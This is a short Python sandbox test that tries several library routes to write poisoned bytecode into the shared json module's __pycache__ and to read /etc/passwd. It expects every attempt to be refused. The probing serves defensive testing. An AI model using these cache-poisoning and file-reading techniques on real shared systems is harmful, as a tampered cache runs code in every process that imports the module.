# Writes compiled modules where the next import looks for them, through every writer that the library has.
# From: poisoned __pycache__ directories; the image's library is shared by all workers of a host.
# must: refused, harmless
# capability: others
import importlib.machinery
import importlib.util
import json
import sys

_ = "contained"
sys.dont_write_bytecode = False
target = json.__cached__ or sys.prefix + "/json/__pycache__/__init__.pyc"
for way in (
    lambda: __import__("py_compile").compile(json.__file__, cfile=target, doraise=True),
    lambda: __import__("py_compile").compile(json.__file__, cfile="/tmp/left-behind.pyc", doraise=True),
    lambda: __import__("compileall").compile_file(json.__file__, force=True, quiet=2),
    lambda: json.__loader__.set_data(target, b"poison") or open(target, "rb").read() == b"poison",
    lambda: importlib.machinery.SourceFileLoader("j", json.__file__)._cache_bytecode("x", target, b"poison")
    or open(target, "rb").read() == b"poison",
    lambda: sys.modules["importlib._bootstrap_external"]._write_atomic(target, b"poison") or "written",
    lambda: importlib.machinery.SourcelessFileLoader("m", "/etc/passwd").get_data("/etc/passwd"),
    lambda: open(importlib.util.cache_from_source(json.__file__), "wb"),
):
    try:
        _ = "ESCAPED" if way() else _
    except Exception:
        pass
